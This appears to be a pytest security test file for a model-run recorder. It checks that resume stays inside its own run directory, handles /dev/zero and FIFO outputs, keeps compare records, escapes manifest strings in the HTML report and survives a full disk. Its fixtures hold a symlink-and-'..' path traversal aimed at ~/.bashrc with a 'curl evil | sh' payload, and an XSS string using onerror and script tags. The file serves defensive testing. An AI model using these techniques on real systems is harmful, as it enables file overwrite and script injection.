"""Real runs, then tampered with: resume writes nothing outside its new run and never hangs,
the report lets no markup of a manifest through, a full disk still closes the run, and a
resumed compare keeps its record. Model tier: the tiny builtin LM."""

from __future__ import annotations

import dataclasses
import errno
import hashlib
import json
import os
import shutil
import time
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import runner
from runner.cli import main
from runner.errors import RunDirError
from runner.record import manifest as m
from runner.record import recorder
from runner.report.html import render

pytestmark = pytest.mark.models

SPEC = """\
version: 1
name: victim
device: cpu
model: {family: transformers, path: builtin:tiny-causal-lm}
adapters:
  a: {path: builtin:tiny-causal-lm-lora-a}
defaults:
  generate: {max_new_tokens: 4}
steps:
  - {op: generate, id: first, prompt: [the cat]}
  - {op: load, adapters: a}
  - {op: compare, id: grid, adapters: [base, a], prompt: [the cat, a dog], seed: [0, 1]}
  - {op: generate, id: last, prompt: [a bird]}
"""
FIRST = "outputs/01-first/completions.jsonl"
MARKUP = '<img src=x onerror=alert(1)>"><script>alert(2)</script>'


def stop_after(step: int) -> Callable[[str], None]:
    def progress(line: str) -> None:
        if line.startswith(f"step {step}/"):
            raise runner.Interrupted("SIGINT")

    return progress


def tree(root: Path) -> dict[str, bytes | str]:
    """Every path under ROOT with its bytes (or a link's target), to see what changed."""
    found: dict[str, bytes | str] = {}
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(top, name)
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[rel] = "-> " + os.readlink(path)
            elif path.is_file():
                found[rel] = path.read_bytes()
    return found


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("made")
    spec = root / "victim.yaml"
    spec.write_text(SPEC)
    full = runner.run(spec, out=root / "full").dir
    with pytest.raises(runner.Interrupted) as stopped:
        runner.run(spec, out=root / "stopped", progress=stop_after(3))
    assert stopped.value.run_dir is not None
    return {"spec": spec, "full": full, "stopped": stopped.value.run_dir}


def copy_of(run: Path, into: Path) -> Path:
    target = into / "runs" / run.name
    shutil.copytree(run, target, symlinks=True)
    return target


def test_resume_never_writes_outside_its_new_run(made: dict[str, Path], tmp_path: Path) -> None:
    old = copy_of(made["stopped"], tmp_path)
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the user's own\n")
    chosen = b"curl evil | sh\n"
    # The attack as reported: an output path with '..' through a symlink. Read from the old
    # run it reaches the attacker's bytes (evil/home/.bashrc); written into the new run, the
    # user's start-up file (home/.bashrc). Its sha256 is in the journal, so it "matches".
    deep = tmp_path / "evil" / "p" / "q" / "r" / "s"
    deep.mkdir(parents=True)
    (tmp_path / "evil" / "home").mkdir()
    (tmp_path / "evil" / "home" / ".bashrc").write_bytes(chosen)
    (old / "outputs" / "hop").symlink_to(deep)
    sneaky = "outputs/hop/../../../../home/.bashrc"
    assert (old / sneaky).read_bytes() == chosen
    data = json.loads((old / m.MANIFEST).read_text())
    data["steps"][0]["outputs"] = [{"path": sneaky, "sha256": hashlib.sha256(chosen).hexdigest()}]
    (old / m.MANIFEST).write_text(json.dumps(data))
    before = {k: v for k, v in tree(tmp_path).items() if not k.startswith("runs/")}
    started = time.monotonic()
    new = runner.resume(old, spec=made["spec"]).dir
    assert time.monotonic() - started < 60
    after = {k: v for k, v in tree(tmp_path).items() if not k.startswith("runs/")}
    assert after == before
    assert victim.read_text() == "# the user's own\n"
    assert new.parent == old.parent
    assert runner.verify(new).ok
    assert all(chosen not in p.read_bytes() for p in new.rglob("*") if p.is_file())
    assert (new / FIRST).read_bytes() == (made["full"] / FIRST).read_bytes()


@pytest.mark.parametrize("swap", ["zero", "fifo"])
def test_resume_makes_again_an_output_swapped_for_dev_zero_or_a_fifo(
    made: dict[str, Path], tmp_path: Path, swap: str
) -> None:
    old = copy_of(made["stopped"], tmp_path)
    (old / FIRST).unlink()
    if swap == "zero":
        (old / FIRST).symlink_to("/dev/zero")
    else:
        os.mkfifo(old / FIRST)
    lines: list[str] = []
    started = time.monotonic()
    new = runner.resume(old, spec=made["spec"], progress=lines.append).dir
    seconds = time.monotonic() - started
    assert seconds < 60, seconds
    assert any("changed in" in line and "making it again" in line for line in lines)
    assert (new / FIRST).read_bytes() == (made["full"] / FIRST).read_bytes()
    assert runner.verify(new).ok


def test_a_resumed_compare_keeps_its_execution_record(
    made: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = copy_of(made["stopped"], tmp_path)
    monkeypatch.chdir(tmp_path)
    relative = Path("runs") / old.name
    new = runner.resume(relative, spec=made["spec"])
    full = runner.open_run(made["full"])
    stopped = runner.open_run(old)
    grid = next(s for s in new.manifest.steps if s.op == "compare")
    before = next(s for s in stopped.manifest.steps if s.op == "compare")
    assert grid.execution["outputs_from"] == str(tmp_path / relative)
    assert Path(new.manifest.origin.resumed_from or "").is_absolute()
    kept = {k: v for k, v in grid.execution.items() if k != "outputs_from"}
    assert kept == before.execution and kept["cells"]
    assert [o.sha256 for o in grid.outputs] == [o.sha256 for o in before.outputs]

    def shown(run: runner.Run) -> list[tuple[Any, ...]]:
        return [(c.row, c.prompt, c.seed, c.text, c.token_ids) for c in run.cells("grid")]

    assert shown(new) == shown(full)


class Elements(HTMLParser):
    """Every element and attribute name a page holds."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add((tag, ""))
        self.seen.update((tag, name) for name, _ in attrs)


def elements(page: bytes) -> set[tuple[str, str]]:
    parser = Elements()
    parser.feed(page.decode("utf-8"))
    return parser.seen


def hostile(value: Any, keep: Callable[[str], bool]) -> Any:
    """VALUE with markup in every string and every mapping key (except what KEEP keeps)."""
    if isinstance(value, str):
        return value if keep(value) else MARKUP + value
    if isinstance(value, list):
        return [hostile(v, keep) for v in value]
    if isinstance(value, dict):
        return {
            (k if keep(k) or k in FIELDS else MARKUP + k): hostile(v, keep)
            for k, v in value.items()
        }
    return value


FIELDS = {
    f.name
    for kind in vars(m).values()
    if dataclasses.is_dataclass(kind) and getattr(kind, "__module__", "") == m.__name__
    for f in dataclasses.fields(kind)
} | {"version", "git_commit", "libraries", "python", "platform", "rows"}


@pytest.mark.parametrize("paths", ["kept", "marked"])
def test_no_string_of_a_manifest_reaches_the_report_as_markup(
    made: dict[str, Path], tmp_path: Path, paths: str
) -> None:
    run = copy_of(made["full"], tmp_path)
    data = json.loads((run / m.MANIFEST).read_text())
    data["error"] = {"step": 2, "where": "w", "message": "x"}
    data["runner"]["git_commit"] = "0123456789abcdef" * 2  # None outside a git checkout
    own = elements(render(run, m.parse(data)))
    outputs = {o["path"] for s in data["steps"] for o in s["outputs"]}
    ops = {s["op"] for s in data["steps"]}
    keep = (lambda s: s in outputs or s in ops) if paths == "kept" else (lambda s: False)
    tampered = hostile(data, keep)
    tampered["schema_version"] = data["schema_version"]
    assert tampered["runner"]["git_commit"].startswith(MARKUP)
    page = render(run, m.parse(tampered))
    assert "<script" not in page.decode().lower()
    made_here = elements(page)
    assert made_here <= own | {("a", ""), ("a", "href"), ("li", ""), ("ul", "")}, made_here - own
    assert not any(name.startswith("on") for _, name in made_here)
    assert ("img", "onerror") not in made_here


def test_a_full_disk_names_its_file_and_still_closes_the_run_as_failed(
    made: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = recorder.write_atomic

    def full_disk(path: Path, data: bytes, syncer: Any = None) -> str:
        if "04-last" in path.as_posix():
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(path, data, syncer)

    monkeypatch.setattr(recorder, "write_atomic", full_disk)
    result = CliRunner().invoke(
        main, ["run", str(made["spec"]), "--out", str(tmp_path / "runs")], catch_exceptions=False
    )
    assert result.exit_code == 2
    (run,) = (tmp_path / "runs").iterdir()
    assert f"{run}/outputs/04-last/completions.jsonl: cannot be written (No space" in result.stderr
    assert f"what finished is kept in {run}" in result.stderr
    record = runner.open_run(run).manifest
    assert record.status == "failed" and record.error is not None
    assert "04-last/completions.jsonl" in record.error.message
    assert [s.status for s in record.steps] == ["ok", "ok", "ok", "failed"]
    assert runner.verify(run).ok


def test_a_disk_full_for_the_record_itself_still_says_where_the_run_is(
    made: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = recorder.write_atomic
    calls = {"manifest": 0}

    def full_disk(path: Path, data: bytes, syncer: Any = None) -> str:
        if path.name == m.MANIFEST:
            calls["manifest"] += 1
            if calls["manifest"] > 2:  # after start and load: every later manifest write
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(path, data, syncer)

    monkeypatch.setattr(recorder, "write_atomic", full_disk)
    with pytest.raises(runner.StepError, match="manifest.json: cannot be written") as failed:
        runner.run(made["spec"], out=tmp_path / "runs")
    run = failed.value.run_dir
    assert run is not None and run.parent == tmp_path / "runs"
    # The manifest could not take the steps: the journal keeps them, and reads back.
    assert (run / m.JOURNAL).is_file()
    assert [s.index for s in m.read(run).steps][:2] == [1, 2]
    with pytest.raises(RunDirError, match="is inside the run directory"):
        runner.run(made["spec"], out=run / "outputs")
